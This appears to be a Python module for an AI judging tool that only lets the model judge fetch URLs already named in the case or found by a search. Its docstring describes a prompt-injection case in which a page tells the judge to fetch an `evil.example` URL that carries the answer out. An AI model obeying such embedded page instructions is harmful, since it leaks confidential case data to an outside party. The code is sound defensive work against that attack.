"""Which URLs the case or a search has named: the only ones that a judge may fetch unless it is told otherwise.

A page could ask the judge to fetch `https://evil.example/?answer=…` and so carry the case away. A URL that already
stands in the case, or that a search has found, carries nothing new. It has to stand there whole: a longer URL that
begins with it does not name it, nor does text of a page, which is evidence but nobody's request.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping

from adjudge.errors import ToolError
from adjudge.tools.web.urls import Target, target_of
from adjudge.types import Case, Evidence

_STOPS = r"\s<>\"'`)\]}|\\。，、；：！？）」』】》”’"  # also where Chinese and Japanese text goes on
_AFTER = re.compile(rf"#|$|[{_STOPS}]|[.,;:!?*_]{{1,8}}(?:$|[{_STOPS}])")


def is_named(target: Target, typed: str, case: Case, evidence: Mapping[str, Evidence]) -> bool:
    """Whether a URL stands in the case or is the source of an item of evidence, up to its fragment.

    Args:
        target: The URL, read.
        typed: The URL as the model wrote it.
        case: The case: prompt, responses, reference, rubric, documents and trajectory count.
        evidence: What was found so far; only its sources count, not what it says.
    """
    if any(_same(target, item.source) for item in evidence.values()):
        return True
    forms = _forms(target, typed)
    return any(_stands_in(form, text) for text in _strings(case.model_dump()) for form in forms)


def _same(target: Target, source: str) -> bool:
    if not source.startswith(("http://", "https://")):
        return False
    try:
        return target_of(source).url == target.url
    except ToolError:
        return False


def _forms(target: Target, typed: str) -> set[str]:
    """The spellings to look for, each without fragment; the bare host with and without its slash."""
    forms = {target.url, typed.strip(" ").partition("#")[0]}
    if target.path == "/":
        forms |= {form.rstrip("/") for form in forms} | {form.rstrip("/") + "/" for form in forms}
    return forms


def _stands_in(url: str, text: str) -> bool:
    start = text.find(url)
    while start >= 0:
        if _AFTER.match(text, start + len(url)):
            return True
        start = text.find(url, start + 1)
    return False


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        if not value.startswith("data:"):  # an image
            yield value
    elif isinstance(value, Mapping):
        for part in value.values():
            yield from _strings(part)
    elif isinstance(value, list | tuple):
        for part in value:
            yield from _strings(part)
